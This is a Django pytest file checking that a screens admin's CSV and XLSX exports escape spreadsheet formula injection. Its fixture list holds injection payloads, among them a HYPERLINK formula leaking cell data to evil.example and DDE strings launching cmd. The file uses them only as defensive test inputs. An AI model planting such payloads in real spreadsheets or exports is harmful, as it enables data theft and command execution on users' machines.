"""CSV exports written by the screens admin open as text, never as formulas, in a spreadsheet:
the screens list export and the play report share one helper."""

import csv
import io
import uuid

import openpyxl
import pytest
from django.utils import timezone

from kepuqingcheng.spreadsheets import safe_cell
from screens.models import Play, Screen
from tests.content.factories import ArticlePageFactory

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def rows(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def one_play(screen, title, duration_ms):
    now = timezone.now()
    Play.objects.create(
        uuid=uuid.uuid4(),
        screen=screen,
        page=ArticlePageFactory(),
        title=title,
        started_at=now,
        duration_ms=duration_ms,
        received_at=now,
    )


def test_safe_cell_quotes_formula_starts_only():
    for text in HOSTILE:
        assert safe_cell(text) == "'" + text
    for text in ["中山路广场屏", "", "1+1", "a=b", 42, None]:
        assert safe_cell(text) == text


@pytest.mark.parametrize("hostile", HOSTILE)
def test_the_screen_list_export_escapes_formula_cells(make_screen, admin_client, hostile):
    screen, _ = make_screen(name="中山路广场屏")
    Screen.objects.filter(pk=screen.pk).update(
        name=hostile[:80], address=hostile, player_version=hostile[:40]
    )
    response = admin_client.get("/admin/screens_screen/", {"export": "csv"})
    assert response.status_code == 200
    header, *data = rows(response)
    assert len(data) == 1
    cells = dict(zip(header, data[0], strict=True))
    for cell in data[0]:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cells
    assert "'" + hostile in data[0]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_the_play_report_export_escapes_formula_cells(make_screen, admin_client, hostile):
    screen, _ = make_screen(name="中山路广场屏")
    Screen.objects.filter(pk=screen.pk).update(name=hostile[:80])
    one_play(screen, title=hostile, duration_ms=1000)
    response = admin_client.get("/admin/screens/report/", {"format": "csv"})
    assert response.status_code == 200
    _header, *data = rows(response)
    assert len(data) == 1
    assert data[0][2] == "'" + hostile[:80] and data[0][4] == "'" + hostile


def test_the_play_report_exports_xlsx_with_formula_text_kept_as_text(make_screen, admin_client):
    screen, _ = make_screen(name="中山路广场屏")
    one_play(screen, title=HOSTILE[0], duration_ms=1500)
    response = admin_client.get("/admin/screens/report/", {"export": "xlsx"})
    assert response.status_code == 200
    assert response["Content-Disposition"].endswith('.xlsx"')
    body = b"".join(response.streaming_content)
    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
    header, row = list(sheet.iter_rows(values_only=False))
    assert [cell.value for cell in header] == [
        "date",
        "screen_id",
        "screen",
        "page_id",
        "content",
        "plays",
        "seconds",
    ]
    assert row[4].value == HOSTILE[0] and row[4].data_type == "s"
    assert [cell.value for cell in row[5:]] == [1, 1.5]
